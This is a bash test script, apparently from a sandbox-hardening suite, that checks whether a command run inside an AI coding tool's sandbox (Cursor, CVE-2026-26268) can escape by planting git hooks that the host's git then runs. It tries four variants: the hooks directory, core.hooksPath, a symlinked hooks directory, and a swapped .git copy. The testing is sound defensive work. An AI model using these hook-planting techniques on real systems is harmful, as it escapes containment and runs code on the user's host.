#!/bin/bash
# CVE-2026-26268, Cursor before 2.5: a command inside wrote a hook into the repository, and the next git
# of the host ran it.
# Escaped: git on the host starts a program that was written inside.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS=protect
. "${0%/*}/../lib.sh"
HOOKS='for h in pre-commit post-commit post-checkout post-index-change prepare-commit-msg; do cp evil'
prepare() { repo "$WS"; }
escaped() { marked; }
attack() { inside "$EVIL $HOOKS .git/hooks/\$h; done"; host_git; }
attempt "hooks of the repository"
attack() { inside "$EVIL mkdir h; $HOOKS h/\$h; done; git config core.hooksPath \$PWD/h"; host_git; }
attempt "core.hooksPath"
attack() { inside "$EVIL mv .git/hooks old; mkdir h; $HOOKS h/\$h; done; ln -s ../h .git/hooks"; host_git; }
attempt "a link in place of the directory"
attack() { inside "$EVIL mv .git g; cp -r g .git; $HOOKS .git/hooks/\$h; done"; host_git; }
attempt "the repository is copied and swapped"
